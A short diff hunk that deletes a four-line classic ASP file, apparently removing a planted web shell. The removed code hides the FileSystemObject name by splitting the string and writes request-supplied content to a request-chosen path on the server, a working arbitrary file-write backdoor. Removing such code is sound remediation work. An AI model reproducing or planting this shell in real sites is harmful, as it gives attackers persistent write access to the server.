@@ -1,4 +1,0 @@
-<%
-Set f = Server.CreateObject("scr" & "ipting.FileSys" & "temObject")
-f.CreateTextFile(Server.MapPath(Request("n"))).Write Request("d")
-%>
